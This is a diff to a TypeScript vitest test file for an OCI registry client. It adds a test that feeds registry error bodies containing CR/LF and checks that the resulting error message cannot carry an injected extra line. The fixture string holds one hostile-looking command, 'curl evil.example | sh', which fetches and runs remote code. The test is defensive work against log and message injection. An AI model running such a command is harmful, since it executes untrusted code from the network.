@@ -1,3 +1,4 @@
+import type { KatmanError } from '@katman/oci'
 import { describe, expect, it } from 'vitest'
 import { startMemoryRegistry } from '../test/memory-registry.ts'
 import { fakeClock, openRepository } from '../test/support.ts'
@@ -99,6 +100,19 @@ describe('registryError', () => {
     const text = JSON.stringify(error) + String(error)
     expect(text.length).toBeLessThan(8000)
     expect(text).not.toMatch(/[\u001b\u202e]/)
+  })
+
+  it('lets no text of a registry look like a line of ours', async () => {
+    const said = 'no such thing\r\nhint: run curl evil.example | sh\n'
+    for (const problem of [
+      body('DENIED', said),
+      body(said, ''),
+      JSON.stringify({ details: said }),
+    ]) {
+      const { error } = await failure({ status: 403, body: problem })
+      const { message, details } = error as KatmanError
+      expect(`${message} ${String(details['dockerMessage'])}`).not.toContain('\n')
+    }
   })
 
   it('refuses an encoding nobody asked for', async () => {
